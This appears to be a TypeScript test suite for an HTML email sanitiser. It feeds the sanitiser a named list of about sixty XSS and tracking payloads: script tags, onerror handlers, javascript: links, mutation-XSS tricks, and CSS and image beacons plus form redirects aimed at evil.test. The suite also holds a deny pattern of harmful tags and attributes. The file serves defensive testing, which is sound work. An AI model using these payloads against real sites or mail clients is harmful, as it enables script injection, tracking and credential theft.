import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import { sanitise } from "./sanitise.ts";

/** Each tries to run code, to call home, to leave its place on the page, or to look like part of ours. */
const tricks: Readonly<Record<string, string>> = {
  script: "<script>alert(1)</script>",
  scriptInScript: "<scr<script>ipt>alert(1)</scr</script>ipt>",
  eventHandler: '<img src="cid:a" onerror="alert(1)">',
  eventWithSlash: "<img/src=x/onerror=alert(1)>",
  bodyOnload: '<body onload="alert(1)">',
  javascriptLink: '<a href="javascript:alert(1)">x</a>',
  javascriptWithTab: '<a href="java\tscript:alert(1)">x</a>',
  javascriptByEntity: '<a href="&#106;avascript&colon;alert(1)">x</a>',
  javascriptWithControl: '<a href="\x01javascript:alert(1)">x</a>',
  vbscript: '<a href="vbscript:msgbox(1)">x</a>',
  dataLink: '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  relativeLink: '<a href="/api/v2/me">x</a>',
  protocolRelative: '<a href="//evil.test/">x</a><img src="//evil.test/p.png">',
  remotePicture: '<img src="http://evil.test/p.png">',
  remoteSrcset: '<img srcset="http://evil.test/p.png 2x" src="cid:a">',
  dataPicture: '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  claimedRemote: '<img data-remote="javascript:alert(1)" src="x">',
  svgOnload: '<svg onload="alert(1)"><image href="http://evil.test/p.png"/></svg>',
  svgUse: '<svg><use href="data:image/svg+xml,x#y"/></svg>',
  svgAnimate: '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
  mathLink: '<math href="javascript:alert(1)">x</math>',
  mutationByMath:
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  mutationByNoscript: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  mutationByXmp: '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  commentBreak: "<!--><img src=x onerror=alert(1)>-->",
  cdata: "<![CDATA[<img src=x onerror=alert(1)>]]>",
  conditional: "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
  iframe: '<iframe src="http://evil.test/"></iframe>',
  iframeSrcdoc: '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  objectEmbed: '<object data="http://evil.test/x"></object><embed src="http://evil.test/x">',
  form: '<form action="http://evil.test/"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
  metaRefresh: '<meta http-equiv="refresh" content="0;url=http://evil.test/">',
  base: '<base href="http://evil.test/"><a href="x">x</a>',
  linkStylesheet: '<link rel="stylesheet" href="http://evil.test/x.css">',
  styleImport: '<style>@import url("http://evil.test/x.css");</style>',
  styleUrl: '<p style="background-color:url(http://evil.test/p.png)">x</p>',
  styleUrlEscaped: '<p style="background:\\75rl(http://evil.test/p.png)">x</p>',
  styleShorthand: '<p style="background:#fff url(//evil.test/p.png)">x</p>',
  styleImageSet: "<p style=\"color:image-set('http://evil.test/p.png' 1x)\">x</p>",
  styleExpression: '<p style="width:expression(alert(1))">x</p>',
  styleFixed: '<div style="position:fixed;top:0;left:0;width:100%;z-index:9">x</div>',
  styleVariable: '<p style="--x:url(http://evil.test/);color:var(--x)">x</p>',
  styleFont: "<p style=\"font-family:'x',url(http://evil.test/f)\">x</p>",
  styleBinding: '<p style="-moz-binding:url(http://evil.test/x.xml#y);behavior:url(x.htc)">x</p>',
  styleEntity: '<p style="background&#58;url(http&#58;//evil.test/)">x</p>',
  styleNegativeMargin: '<p style="margin-top:-500px">x</p>',
  tableBackground: '<table background="http://evil.test/p.png"><tr><td background="//evil.test/p.png">x</table>',
  video: '<video poster="http://evil.test/p.png"><source onerror="alert(1)"></video><audio src="http://evil.test/a">',
  classAndId: '<div class="button primary" id="login" name="x">x</div>',
  pageFrame: "<main><nav><header>x</header></nav></main>",
  uppercase: "<IMG SRC=JaVaScRiPt:alert(1) OnErRoR=alert(1)>",
  nul: '<scr\0ipt>alert(1)</script><a href="java\0script:alert(1)">x</a>',
  template: "<template><script>alert(1)</script></template>",
  isindex: "<isindex type=image src=1 onerror=alert(1)>",
  details: '<details open ontoggle="alert(1)">x</details>',
  citeAddress: '<blockquote cite="http://evil.test/">x</blockquote><q cite="javascript:alert(1)">y</q>',
  ping: '<a href="https://x.test/" ping="http://evil.test/">x</a>',
  unclosed: '<img src="cid:a" alt="<script>alert(1)</script>',
  backtick: "<img src=`javascript:alert(1)` alt=`onerror=alert(1)`>",
};

const tagPattern = /<\/?([a-z0-9]+)((?:\s[a-z-]+(?:="[^"]*")?)*)\s*\/?>/gi;
const harmful =
  /^(?:script|style|iframe|object|embed|form|input|button|meta|base|link|svg|math|video|audio|source|main|nav|header|footer|body|template)$/i;

/** Every tag of the result is whole, and has nothing active. */
function assertHarmless(html: string, name: string): void {
  assert.doesNotMatch(html.replace(tagPattern, ""), /</, `${name}: a piece of a tag is left: ${html}`);
  for (const [tag, tagName = "", attributes = ""] of html.matchAll(tagPattern)) {
    assert.doesNotMatch(tagName, harmful, `${name}: ${tag}`);
    for (const [, attribute = "", value = ""] of attributes.matchAll(/([a-z-]+)="([^"]*)"/gi)) {
      assert.doesNotMatch(
        attribute,
        /^(?:on.*|class|id|name|srcset|background|action|ping|cite|poster)$/i,
        `${name}: ${tag}`,
      );
      if (attribute === "href") assert.match(value, /^(?:https?|mailto|tel):/i, `${name}: ${tag}`);
      if (attribute === "src") assert.match(value, /^cid:/i, `${name}: ${tag}`);
      if (attribute === "data-remote") assert.match(value, /^https?:\/\//i, `${name}: ${tag}`);
      if (attribute === "style")
        assert.doesNotMatch(value, /url|expression|image-set|position|var\(|--|[\\;]-|:-/i, `${name}: ${tag}`);
    }
  }
}

for (const [name, html] of Object.entries(tricks)) {
  test(`hostile HTML does nothing: ${name}`, () => {
    const safe = sanitise(html, "aside");
    assertHarmless(safe, name);
    assert.equal(sanitise(safe, "aside"), safe, "sanitising again changes nothing");
  });
}

test("what people write stays as it is", () => {
  const html =
    '<p style="color:#333;margin:0 4px;font-family:Arial, \'Open Sans\'">Hi <b>Ann</b>,<br />see <a href="https://x.test/?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">this</a></p>' +
    '<table border="1" width="100%"><tr><td align="right" colspan="2"><font color="red" size="2">4 711</font></td></tr></table>' +
    '<blockquote type="cite"><del>old</del> <ins>new</ins></blockquote><center><img src="cid:logo@x" alt="logo" width="10" /></center>';
  assert.equal(sanitise(html, "aside"), html);
});

test("a remote picture is put aside in mail that came, and kept in mail that goes", () => {
  const picture = '<img src="https://x.test/a.png" alt="a">';
  assert.equal(sanitise(picture, "aside"), '<img data-remote="https://x.test/a.png" alt="a" />');
  assert.equal(sanitise(picture, "kept"), '<img src="https://x.test/a.png" alt="a" />');
  assert.equal(sanitise('<img src="data:image/png;base64,xx">', "kept"), "<img />");
});

test("deep nesting ends and is cut", () => {
  const safe = sanitise(`${"<div>".repeat(5000)}deep${"</div>".repeat(5000)}`, "aside");
  assert.ok(safe.length < 5000);
});

test("any mixture of markup comes out harmless", () => {
  const piece = fc.constantFrom(
    ...Object.values(tricks),
    "<p>",
    "</p>",
    "<",
    ">",
    '"',
    "'",
    "&lt;",
    "<!--",
    "-->",
    "x",
    " ",
    "\0",
    "<table>",
    "<a href=",
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 8 }), (pieces) =>
      assertHarmless(sanitise(pieces.join(""), "aside"), "mixture"),
    ),
    { numRuns: 300 },
  );
});
